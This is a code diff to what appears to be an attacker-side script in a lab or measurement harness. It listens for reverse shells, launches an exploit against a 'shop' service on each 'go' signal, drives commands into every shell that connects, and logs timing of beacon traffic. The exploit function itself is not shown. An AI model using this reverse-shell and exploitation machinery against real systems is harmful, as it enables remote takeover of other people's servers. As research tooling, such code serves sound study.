@@ -1,7 +1,7 @@
 # SPDX-License-Identifier: Apache-2.0
 """The attacker's host: a listener for the reverse shell, and the exploit that opens it.
 
-Reads one line ``go`` on stdin, then exploits the shop; types commands into the shell that comes
+Exploits the shop once for each line ``go`` on stdin, and types commands into each shell that comes
 back, for ever. Prints one JSON line for what arrives: ``{"at_wall_ns": kernel receive time,
 "bytes": n}``, and ``{"event": "shell", ...}`` when the shell connects. The receive time is the
 kernel's (SO_TIMESTAMPNS), so that a slow reader does not look like a late byte.
@@ -86,22 +86,26 @@ def count_beacons(listener: socket.socket) -> None:
         connection.close()
 
 
+def accept_shells(listener: socket.socket, beacon_port: int) -> None:
+    """Use every shell that connects, each in a thread of its own."""
+    while True:
+        shell, peer = listener.accept()
+        say(event="shell", at_wall_ns=time.time_ns(), peer=peer[0])
+        arguments = (shell, beacon_port, shell.getsockname()[0])
+        threading.Thread(target=use_shell, args=arguments, daemon=True).start()
+
+
 def main() -> None:
-    """Listen, wait for the signal, exploit, use the shell."""
+    """Listen; exploit the shop once for each ``go``; end with standard input."""
     listen_port, beacon_port = int(sys.argv[1]), int(sys.argv[2])
     shop_url, name = sys.argv[3], sys.argv[4]
-    with (
-        socket.create_server(("", listen_port)) as shells,
-        socket.create_server(("", beacon_port)) as beacons,
-    ):
+    with socket.create_server(("", listen_port)) as shells, socket.create_server(("", beacon_port)) as beacons:
+        threading.Thread(target=accept_shells, args=(shells, beacon_port), daemon=True).start()
         threading.Thread(target=count_beacons, args=(beacons,), daemon=True).start()
         say(event="listening")
-        if sys.stdin.readline().strip() != "go":
-            return
-        threading.Thread(target=exploit, args=(shop_url, name, listen_port), daemon=True).start()
-        shell, peer = shells.accept()
-        say(event="shell", at_wall_ns=time.time_ns(), peer=peer[0])
-        use_shell(shell, beacon_port, shell.getsockname()[0])
+        for line in sys.stdin:
+            if line.strip() == "go":
+                threading.Thread(target=exploit, args=(shop_url, name, listen_port), daemon=True).start()
 
 
 if __name__ == "__main__":
